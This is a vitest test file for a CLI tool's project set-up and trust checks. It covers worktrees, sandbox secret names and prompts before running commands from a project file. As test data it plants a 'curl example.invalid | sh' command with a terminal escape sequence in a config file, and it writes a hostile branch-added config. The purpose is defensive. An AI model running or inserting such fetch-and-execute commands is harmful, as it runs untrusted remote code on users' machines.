// @module-tag ci

import { appendFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { setupProject } from '../../../../../src/core/acts/set-up/setup-project.act.ts';
import { findProjectFor } from '../../../../../src/core/caller/context/find-project-for.ts';
import { fingerprint } from '../../../../../src/core/kernel/files/fingerprint.ts';
import { isTrusted } from '../../../../../src/core/project/finding/trust.ts';
import { typed } from '../../../../app/unit/cli/typed.ts';
import { makeBench } from '../../../../support/bench.ts';
import { makeRepo, type TempRepo } from '../../../../support/temp-repo.ts';

test('a set-up from a folder inside the repository applies to all of it, and a second one changes nothing', async () => {
  await using bench = await makeBench({ bare: true });
  const inside = join(bench.repo.path, 'src');
  await mkdir(inside);
  const context = { ...bench.context, cwd: '/', roots: [inside] };
  const made = await setupProject({ lines: { PROVIDER: 'rehearsal', CHECK: 'npm test' } }, context);
  expect(made).toMatchObject({ kind: 'made', project: { mainRepo: bench.repo.path } });
  const text = await readFile(join(bench.repo.path, '.samocode'), 'utf8');
  expect(text).toContain('CHECK=npm test');
  const checked = await setupProject({ lines: { PROVIDER: 'claude' } }, context);
  expect(checked).toMatchObject({ kind: 'checked', done: [] });
  expect(await readFile(join(bench.repo.path, '.samocode'), 'utf8')).toBe(text);
});

test('a set-up in a linked worktree applies to the main checkout, and is found from the worktree', async () => {
  await using bench = await makeBench({ bare: true });
  const { repo, context } = bench;
  const linked = join(repo.root, 'linked');
  await repo.git(['worktree', 'add', '-q', '-b', 'other', linked]);
  const made = await setupProject({ projectDir: linked, sessions: 'notes' }, context);
  expect(made).toMatchObject({
    kind: 'made',
    project: { mainRepo: repo.path, values: { sessions: join(repo.path, 'notes') } },
  });
  expect(made.warnings).toEqual([
    expect.stringContaining(`${linked} is a linked worktree`),
    'Add /notes/ to .gitignore, so that no git command touches what is there.',
    expect.stringContaining('This project has no CHECK'),
  ]);
  const { filePath } = await findProjectFor({ projectDir: linked }, context);
  expect(filePath).toBe(join(repo.path, '.samocode'));
});

test('a .samocode that a branch adds to a linked worktree is neither written, nor trusted, nor used', async () => {
  await using bench = await makeBench({ bare: true });
  const { repo, context } = bench;
  const linked = join(repo.root, 'linked');
  await repo.git(['worktree', 'add', '-q', '-b', 'evil', linked]);
  const evil = 'MAIN_REPO=.\nWORKTREES=w\nSESSIONS=s\nSETUP=touch X\nGATES=none\n';
  await writeFile(join(linked, '.samocode'), evil);
  const made = await setupProject({ projectDir: linked }, context);
  expect(made.project.filePath).toBe(join(repo.path, '.samocode'));
  expect(made.project.values.setup).toBeUndefined();
  expect(await readFile(join(linked, '.samocode'), 'utf8')).toBe(evil);
  expect(await isTrusted(join(linked, '.samocode'), fingerprint(evil), context.home)).toBe(false);
});

test('of concurrent set-ups each trusts only the lines that were written', async () => {
  await using bench = await makeBench({ bare: true });
  const commands = ['npm test', 'make check', 'true'];
  const made = await Promise.all(commands.map((CHECK) => setupProject({ lines: { CHECK } }, bench.context)));
  const path = join(bench.repo.path, '.samocode');
  const text = await readFile(path, 'utf8');
  expect(made.filter(({ kind }) => kind === 'made')).toHaveLength(1);
  expect(await isTrusted(path, fingerprint(text), bench.context.home)).toBe(true);
});

test('a folder without git is refused until the person agrees to create a repository', async () => {
  await using bench = await makeBench({ bare: true });
  const context = { ...bench.context, env: { ...bench.context.env, ...IDENTITY } };
  const folder = join(bench.repo.root, 'new');
  await mkdir(folder);
  await expect(setupProject({ projectDir: folder }, context)).rejects.toMatchObject({
    code: 'not_a_repository',
  });
  const made = await setupProject({ projectDir: folder, initRepository: true }, context);
  expect(made.done).toEqual(expect.arrayContaining(['Made the first commit.']));
});

const IDENTITY = {
  GIT_AUTHOR_NAME: 'T',
  GIT_AUTHOR_EMAIL: 't@example.invalid',
  GIT_COMMITTER_NAME: 'T',
  GIT_COMMITTER_EMAIL: 't@example.invalid',
};

test('a set-up names the secrets that the sandbox would leave out and that files of the project name, until SANDBOX_ENV admits them', async () => {
  await using bench = await makeBench({ bare: true });
  const { repo } = bench;
  await writeFile(join(repo.path, '.npmrc'), `//registry.example/:_authToken=\${NPM_TOKEN}\n`);
  await writeFile(
    join(repo.path, '.yarnrc.yml'),
    `npmAuthToken: "\${YARN_AUTH_TOKEN:-none}"\nx: \${UNSET_TOKEN}\n`,
  );
  await writeFile(join(repo.path, 'settings.xml'), `<password>\${env.MAVEN_PASSWORD}</password>\n`);
  await writeFile(join(repo.path, 'nuget.config'), '<add key="x" value="%NUGET_KEY%" />\n');
  await writeFile(join(repo.path, '.env.example'), '# SOME_KEY=\nexport DATABASE_URL=\nPORT=1\n');
  const set = [
    'NPM_TOKEN',
    'YARN_AUTH_TOKEN',
    'MAVEN_PASSWORD',
    'NUGET_KEY',
    'DATABASE_URL',
    'PORT',
    'SOME_KEY',
  ];
  const env = { ...bench.context.env, ...Object.fromEntries(set.map((name) => [name, 'x'])) };
  const context = { ...bench.context, env };
  const line = 'SANDBOX_ENV=DATABASE_URL,MAVEN_PASSWORD,NPM_TOKEN,NUGET_KEY,YARN_AUTH_TOKEN';
  const { warnings } = await setupProject({ lines: { CHECK: 'true' } }, context);
  expect(warnings).toEqual([expect.stringContaining(`admits it: ${line}.`)]);
  expect(warnings[0]).toContain('.npmrc, .yarnrc.yml, settings.xml, nuget.config, .env.example name ');
  await appendFile(join(repo.path, '.samocode'), `${line}\n`);
  expect((await setupProject({}, context)).warnings).toEqual([]);
});

/** Creates a project to whose file someone else then adds a command. */
async function withForeignLine(repo: TempRepo): Promise<{ cwd: string; home: string }> {
  const place = { cwd: repo.path, home: repo.homeDir };
  await typed(['init', '--set', 'PROVIDER=rehearsal'], place);
  await appendFile(join(repo.path, '.samocode'), 'CHECK=curl example.invalid | sh\u001b[2K\n');
  return place;
}

test('start on a terminal shows what would run, and starts nothing if the answer is no', async () => {
  await using repo = await makeRepo();
  const place = await withForeignLine(repo);
  const { stdout, stderr, exitCode } = await typed(['start', '--task', 'x'], { ...place, says: ['n'] });
  expect(exitCode).toBe(1);
  expect(stdout).toContain('CHECK=curl example.invalid | sh');
  expect(stdout).not.toContain('\u001b[2K');
  expect(stderr).toContain('Next: samocode trust');
  expect(stderr).not.toContain('setup_project');
  expect(JSON.parse((await typed(['list', '--json'], place)).stdout).sessions).toEqual([]);
});

test('trust asks once, remembers the yes, and asks again after a change', async () => {
  await using repo = await makeRepo();
  const place = await withForeignLine(repo);
  expect(await typed(['trust'], place)).toMatchObject({
    exitCode: 1,
    stderr: expect.stringContaining('--yes'),
  });
  expect(await typed(['trust'], { ...place, says: ['n'] })).toMatchObject({ exitCode: 1 });
  expect(await typed(['trust'], { ...place, says: ['y'] })).toMatchObject({ exitCode: 0 });
  const again = await typed(['trust', '--json'], place);
  expect(JSON.parse(again.stdout)).toMatchObject({ lines: [] });
  await appendFile(join(repo.path, '.samocode'), 'SETUP=true\n');
  expect(await typed(['trust'], place)).toMatchObject({ exitCode: 1 });
  const { stdout } = await typed(['trust', '--yes', '--json'], place);
  expect(JSON.parse(stdout).lines.map(({ key }: { key: string }) => key)).toEqual(['SETUP', 'CHECK']);
});
